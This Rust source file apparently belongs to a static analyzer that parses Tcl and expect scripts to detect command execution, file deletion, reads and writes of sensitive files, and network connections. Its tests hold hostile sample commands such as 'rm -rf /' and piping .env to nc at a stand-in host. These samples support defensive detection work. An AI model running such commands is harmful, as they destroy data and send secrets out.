//! Tcl, and expect, which is Tcl with programs that are talked to.

use std::collections::HashMap;

use super::acts::shell_text;
use super::value::HOLE;
use crate::reading::Sink;

/// Nesting of scripts in braces and brackets.
const MAX_DEPTH: usize = 8;
/// Bytes of a variable's value that are put in: it may be used at every step.
const MAX_VALUE: usize = 1 << 10;
/// Bytes of a word: values are put in again and again.
const MAX_WORD: usize = 1 << 14;

pub(super) fn sinks(text: &str) -> Vec<Sink> {
    let mut script = Script {
        names: HashMap::new(),
        found: Vec::new(),
        shell: false,
    };
    script.run(text, 0);
    script.found
}

struct Script {
    names: HashMap<String, String>,
    found: Vec<Sink>,
    /// Whether the program that is talked to is a shell.
    shell: bool,
}

/// A word, and whether it stood in braces.
struct Word {
    text: String,
    braced: bool,
}

impl Script {
    fn run(&mut self, text: &str, depth: usize) {
        if depth > MAX_DEPTH {
            return;
        }
        let mut rest = text;
        while !rest.is_empty() {
            let words = self.command(&mut rest, depth);
            self.perform(&words, depth);
        }
    }

    /// Cuts one command off, and runs what stands in its brackets.
    fn command(&mut self, rest: &mut &str, depth: usize) -> Vec<Word> {
        let mut words: Vec<Word> = Vec::new();
        loop {
            *rest = rest.trim_start_matches(|c: char| c.is_whitespace() && c != '\n');
            let Some(c) = rest.chars().next() else {
                return words;
            };
            match c {
                '\n' | ';' => {
                    *rest = rest.get(1..).unwrap_or_default();
                    return words;
                }
                '#' if words.is_empty() => {
                    *rest = rest.split_once('\n').map_or("", |(_, after)| after);
                }
                '{' => {
                    let (text, after) = balanced(rest, '{', '}');
                    words.push(Word {
                        text: text.to_owned(),
                        braced: true,
                    });
                    *rest = after;
                }
                '\\' if rest.starts_with("\\\n") => *rest = rest.get(2..).unwrap_or_default(),
                '"' => {
                    *rest = rest.get(1..).unwrap_or_default();
                    let text = self.word(rest, depth, |c| c == '"');
                    *rest = rest.get(1..).unwrap_or_default();
                    words.push(Word {
                        text,
                        braced: false,
                    });
                }
                _ => {
                    let text = self.word(rest, depth, |c| c.is_whitespace() || c == ';');
                    words.push(Word {
                        text,
                        braced: false,
                    });
                }
            }
        }
    }

    /// A word up to where it ends, with variables put in.
    fn word(&mut self, rest: &mut &str, depth: usize, ends: impl Fn(char) -> bool) -> String {
        let mut text = String::new();
        while let Some(c) = rest.chars().next().filter(|c| !ends(*c)) {
            let after = rest.get(c.len_utf8()..).unwrap_or_default();
            match c {
                '\\' => {
                    let escaped = after.chars().next();
                    text.push(match escaped {
                        Some('n' | 'r') => '\n',
                        Some('t') => '\t',
                        Some(other) => other,
                        None => '\\',
                    });
                    *rest = after
                        .get(escaped.map_or(0, char::len_utf8)..)
                        .unwrap_or_default();
                }
                '[' => {
                    let (inner, behind) = balanced(rest, '[', ']');
                    self.run(inner, depth + 1);
                    text.push(HOLE);
                    *rest = behind;
                }
                '$' => {
                    // A name whose brace is never closed goes on to the end.
                    let braced = after
                        .strip_prefix('{')
                        .map(|name| name.split_once('}').unwrap_or((name, "")));
                    let (name, behind) = braced.unwrap_or_else(|| {
                        let end = after
                            .find(|c: char| !c.is_alphanumeric() && c != '_' && c != ':')
                            .unwrap_or(after.len());
                        after.split_at_checked(end).unwrap_or((after, ""))
                    });
                    match self.names.get(name).filter(|_| text.len() < MAX_WORD) {
                        Some(value) => text.push_str(value),
                        None => text.push(HOLE),
                    }
                    *rest = behind;
                }
                _ => {
                    text.push(c);
                    *rest = after;
                }
            }
        }
        text
    }

    fn perform(&mut self, words: &[Word], depth: usize) {
        let Some((head, args)) = words.split_first() else {
            return;
        };
        let texts: Vec<&str> = args.iter().map(|word| word.text.as_str()).collect();
        match (head.text.trim_start_matches("::"), texts.as_slice()) {
            ("set", [name, value]) if value.len() <= MAX_VALUE => {
                self.names.insert((*name).to_owned(), (*value).to_owned());
            }
            ("set" | "foreach" | "lappend" | "append", [name, ..]) => {
                self.names.remove(*name);
                self.bodies(args, depth);
            }
            ("exec", args) => self.pipeline(args),
            ("spawn", args) => {
                let args: Vec<&str> = args
                    .iter()
                    .copied()
                    .skip_while(|word| word.starts_with('-'))
                    .collect();
                self.shell = args
                    .first()
                    .is_some_and(|name| matches!(*name, "sh" | "bash" | "zsh" | "ssh" | "su"));
                self.found
                    .push(Sink::Argv(args.into_iter().map(known).collect()));
            }
            ("system", args) => self.found.push(shell_text(&args.join(" "))),
            ("send", args) if self.shell => {
                if let Some(text) = args.last() {
                    self.found.push(shell_text(text.trim_end()));
                }
            }
            ("file", args) => self.file(args),
            ("open", [command, ..]) if command.starts_with('|') => {
                self.found
                    .push(shell_text(command.trim_start_matches('|').trim()));
            }
            ("open", [path, mode @ ..]) => {
                let writes = mode
                    .first()
                    .is_some_and(|mode| mode.contains(['w', 'a', '+', 'W', 'A']));
                let sink = if writes { Sink::Write } else { Sink::Read };
                self.found.extend(known(path).map(sink));
            }
            ("socket", [host, _]) => self.found.push(Sink::Network {
                url: known(host),
                method: None,
                sends: true,
            }),
            ("eval" | "uplevel", args) => {
                let text = args.join(" ");
                self.run(&text, depth + 1);
            }
            (
                "if" | "while" | "for" | "catch" | "try" | "proc" | "namespace" | "after"
                | "expect" | "time" | "switch" | "apply" | "interp",
                _,
            ) => self.bodies(args, depth),
            _ => {}
        }
    }

    /// What stands in braces behind a word of the language is a script, or does nothing as one.
    fn bodies(&mut self, args: &[Word], depth: usize) {
        for word in args.iter().filter(|word| word.braced) {
            self.run(&word.text, depth + 1);
        }
    }

    /// `exec program … | program … > file`.
    fn pipeline(&mut self, args: &[&str]) {
        let mut words: Vec<Option<String>> = Vec::new();
        let mut args = args
            .iter()
            .copied()
            .skip_while(|word| word.starts_with('-'))
            .peekable();
        while let Some(word) = args.next() {
            match word {
                "|" | "|&" => self.found.push(Sink::Argv(std::mem::take(&mut words))),
                "<" => self
                    .found
                    .extend(args.next().and_then(known).map(Sink::Read)),
                ">" | ">>" | ">&" | "2>" => {
                    self.found
                        .extend(args.next().and_then(known).map(Sink::Write));
                }
                "&" => {}
                _ => words.push(known(word)),
            }
        }
        if !words.is_empty() {
            self.found.push(Sink::Argv(words));
        }
    }

    fn file(&mut self, args: &[&str]) {
        let Some((verb, rest)) = args.split_first() else {
            return;
        };
        let recursive = rest.contains(&"-force");
        let paths = rest
            .iter()
            .filter(|word| !matches!(**word, "-force" | "--"))
            .map(|path| known(path));
        match *verb {
            "delete" => {
                let gone = paths.filter(|path| path.is_some() || recursive);
                self.found
                    .extend(gone.map(|path| Sink::Delete { path, recursive }));
            }
            "mkdir" => self.found.extend(paths.flatten().map(Sink::Write)),
            "copy" | "rename" => {
                let mut paths: Vec<Option<String>> = paths.collect();
                let target = paths.pop().flatten();
                self.found
                    .extend(paths.into_iter().flatten().map(Sink::Read));
                self.found.extend(target.map(Sink::Write));
            }
            _ => {}
        }
    }
}

/// A word, if all of it is known.
fn known(word: &str) -> Option<String> {
    Some(word.to_owned()).filter(|word| !word.contains(HOLE))
}

/// What stands in the brackets that open at the start of `text`, and what comes behind them.
fn balanced(text: &str, open: char, close: char) -> (&str, &str) {
    let mut depth = 0usize;
    let mut escaped = false;
    for (at, c) in text.char_indices() {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            _ if c == open => depth += 1,
            _ if c == close => {
                depth -= 1;
                if depth == 0 {
                    return (
                        text.get(1..at).unwrap_or_default(),
                        text.get(at + 1..).unwrap_or_default(),
                    );
                }
            }
            _ => {}
        }
    }
    (text.get(1..).unwrap_or_default(), "")
}

#[cfg(test)]
mod tests {
    use crate::code::check;
    use crate::reading::Language::Tcl;

    #[test]
    fn commands() {
        check(Tcl, "exec rm -rf /", &["argv rm -rf /"]);
        check(Tcl, "puts [exec rm -rf /]", &["argv rm -rf /"]);
        check(Tcl, "set d /; exec rm -rf $d", &["argv rm -rf /"]);
        check(Tcl, "exec sh -c {rm -rf /}", &["argv sh -c rm -rf /"]);
        check(
            Tcl,
            "if {1} {\n  catch {exec rm -rf \"/\"}\n}",
            &["argv rm -rf /"],
        );
        check(
            Tcl,
            "exec cat .env | nc h.example 80",
            &["argv cat .env", "argv nc h.example 80"],
        );
        check(
            Tcl,
            "exec echo x > /etc/hosts",
            &["write /etc/hosts", "argv echo x"],
        );
        check(
            Tcl,
            "spawn bash; send \"rm -rf /\\r\"",
            &["argv bash", "shell rm -rf /"],
        );
        check(Tcl, "spawn -noecho rm -rf /", &["argv rm -rf /"]);
        check(Tcl, "open \"|rm -rf /\"", &["shell rm -rf /"]);
    }

    #[test]
    fn files() {
        check(
            Tcl,
            "file delete -force -- /x /y",
            &["delete -r /x", "delete -r /y"],
        );
        check(Tcl, "file delete x", &["delete x"]);
        check(
            Tcl,
            "foreach d [glob /*] {file delete -force $d}",
            &["delete -r ?"],
        );
        check(Tcl, "set f [open /etc/hosts w]", &["write /etc/hosts"]);
        check(Tcl, "puts [read [open .env]]", &["read .env"]);
        check(
            Tcl,
            "set s [socket h.example 80]",
            &["connect h.example sends"],
        );
    }

    #[test]
    fn data() {
        check(Tcl, "puts \"exec rm -rf /\"", &[]);
        check(Tcl, "puts {[exec rm -rf /]}", &[]);
        check(Tcl, "# exec rm -rf /\nset x {exec rm}", &[]);
        check(Tcl, "send \"hello\\r\"", &[]);
        check(Tcl, "}}]] { [ \" $", &[]);
        check(Tcl, "puts\u{b}\u{2003} x", &[]);
    }
}
